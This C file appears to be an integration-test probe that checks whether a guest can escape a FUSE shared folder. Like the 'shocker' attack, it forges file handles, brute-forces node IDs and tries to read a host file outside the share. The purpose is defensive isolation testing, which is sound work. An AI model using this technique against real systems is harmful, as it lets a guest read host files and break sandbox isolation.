/*
 * Run as root in a guest (tests/integration/62-volumes.sh): try to open a
 * host file through file handles on a shared folder, as "shocker" did
 * against docker. Usage: handle-probe MOUNT FILE INO
 *
 * 1. name_to_handle_at(FILE) and open_by_handle_at of that handle: a file
 *    inside the share may open (or the fs may not export handles at all).
 * 2. Forged handles in FUSE's own layout (node ID + generation): node IDs
 *    0 to 2047 and the 2048 from INO, the host inode number of a file
 *    outside the share, each opened and read. A read that returns the outside
 *    file's text is an escape.
 * Prints one word per step: "inside-ok" / "inside-refused", then
 * "forged-refused" or "ESCAPED:<text>"; exit 0.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define FUSE_FH_TYPE	0x81	/* the kernel's FILEID_INO64_GEN for FUSE: nodeid hi, lo, generation */

static int try_handle(int mount_fd, uint64_t nodeid, uint32_t gen, char *out, size_t len)
{
	struct {
		struct file_handle fh;
		uint32_t words[3];
	} h = { .fh = { .handle_bytes = 12, .handle_type = FUSE_FH_TYPE } };	/* words: f_handle's bytes */
	ssize_t n;
	int fd;

	h.words[0] = (uint32_t)(nodeid >> 32);
	h.words[1] = (uint32_t)nodeid;
	h.words[2] = gen;
	fd = open_by_handle_at(mount_fd, &h.fh, O_RDONLY);
	if (fd < 0)
		return -1;
	n = read(fd, out, len - 1);
	close(fd);
	out[n > 0 ? n : 0] = 0;
	return 0;
}

int main(int argc, char **argv)
{
	struct {
		struct file_handle fh;
		unsigned char buf[128];
	} h = { .fh = { .handle_bytes = 128 } };
	char got[256];
	int mount_fd, mount_id, fd, escaped = 0;
	uint64_t ino;

	if (argc != 4)
		return 2;
	ino = strtoull(argv[3], NULL, 0);
	mount_fd = open(argv[1], O_RDONLY | O_DIRECTORY);
	if (mount_fd < 0)
		return 2;
	fd = -1;
	if (name_to_handle_at(AT_FDCWD, argv[2], &h.fh, &mount_id, 0) == 0)
		fd = open_by_handle_at(mount_fd, &h.fh, O_RDONLY);
	printf("%s\n", fd >= 0 ? "inside-ok" : "inside-refused");
	if (fd >= 0)
		close(fd);
	for (uint64_t id = 0; id < 4096 && !escaped; id++) {
		uint64_t node = id < 2048 ? id : ino + id - 2048;

		for (uint32_t gen = 0; gen < 2 && !escaped; gen++)
			if (try_handle(mount_fd, node, gen, got, sizeof(got)) == 0 && strstr(got, "host secret"))
				escaped = 1;
	}
	if (escaped)
		printf("ESCAPED:%s", got);
	else
		printf("forged-refused\n");
	return 0;
}
